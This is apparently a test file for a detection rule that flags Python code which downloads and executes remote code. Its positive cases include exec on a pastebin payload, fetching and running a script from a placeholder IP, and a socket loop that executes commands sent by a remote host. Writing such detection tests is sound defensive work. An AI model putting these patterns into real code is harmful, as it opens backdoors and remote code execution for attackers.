import json
import socket
import urllib.request

import requests

URL = "https://pastebin.com/raw/abc123"

# ruleid: python-download-and-exec
exec(requests.get(URL).text)


def stage2():
    code = urllib.request.urlopen("http://203.0.113.7/p.py").read().decode()
    # ruleid: python-download-and-exec
    exec(compile(code, "<remote>", "exec"))


def beacon(host):
    s = socket.create_connection((host, 8443))
    while True:
        data = s.recv(65536)
        if not data:
            break
        # ruleid: python-download-and-exec
        exec(data.decode(), globals())


def calc(url):
    r = requests.get(url, timeout=10)
    # ruleid: python-download-and-exec
    return eval(r.json()["expr"])


def fetch_config(url):
    # ok: python-download-and-exec
    return json.loads(requests.get(url, timeout=10).text)


def load_local():
    with open("script.py") as f:
        # ok: python-download-and-exec
        exec(f.read())


def price(url):
    r = requests.get(url, timeout=5)
    # ok: python-download-and-exec
    return float(r.json()["price"])
